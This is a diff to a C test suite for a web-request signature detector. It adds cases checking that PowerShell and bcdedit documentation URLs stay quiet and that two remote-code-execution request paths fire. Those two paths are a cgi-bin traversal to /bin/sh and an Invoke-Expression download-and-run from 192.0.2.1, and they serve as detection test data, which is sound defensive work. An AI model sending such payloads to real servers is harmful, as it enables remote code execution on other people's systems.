@@ -858,6 +858,11 @@ Test(websig, documentation_pages_mementos_and_inline_pictures)
     QUIET("/3/library/subprocess.html", NULL, NULL);
     QUIET("/nodejs/node/blob/v20.20.2/lib/child_process.js", NULL, NULL);
     FIRES("code", "/x/require('child_process')", NULL, NULL);
+    QUIET("/en-us/powershell/module/microsoft.powershell.utility/invoke-expression",
+          "view=powershell-7.2", NULL);
+    QUIET("/en-us/windows-hardware/drivers/devtest/bcdedit--set", NULL, NULL);
+    FIRES("rce", "/cgi-bin/%2e%2e/%2e%2e/%2e%2e/bin/sh", NULL, NULL);
+    FIRES("rce", "/x/invoke-expression%20(iwr%20http://192.0.2.1/a)", NULL, NULL);
     QUIET("/web/20011105084002/http://support.microsoft.com/kb/Q150/9/56.asp", NULL, NULL);
     QUIET("/web/20140626004012im_/http://www.picloud.com/logo.png", NULL, NULL);
     FIRES("rfi", "/get/https://example.com/", NULL, NULL);
